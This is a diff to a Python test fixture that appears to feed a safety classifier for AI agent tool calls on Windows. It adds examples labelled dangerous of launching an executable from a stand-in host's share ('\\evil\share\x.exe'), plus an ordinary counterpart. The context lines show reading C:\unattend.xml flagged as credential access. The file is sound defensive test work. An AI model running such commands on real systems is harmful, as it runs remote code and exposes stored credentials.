@@ -3748,6 +3748,13 @@ ORDINARY += [("PowerShell", _ps(r"(Get-Item C:\Users\me\Documents\a.txt).CopyTo(
 # A setup answer file at the drive's root (S-RULE-53).
 DANGEROUS += [("FileSystem", {"mode": "read", "path": "C:\\unattend.xml"}, "credential-access")]
 
+# A wrapper starting a program from another machine's share (S-RULE-31).
+DANGEROUS += [
+    ("PowerShell", _ps(r"explorer \\evil\share\x.exe"), "remote-code"),
+    ("App", {"mode": "launch", "name": "explorer", "args": "\\\\evil\\share\\x.exe"}, "remote-code"),
+]
+ORDINARY += [("PowerShell", _ps(r"explorer \\fileserver\drops"))]
+
 CATEGORY_OF: dict[str, str] = {
     "recursive-delete": "destruction",
     "wildcard-delete": "destruction",
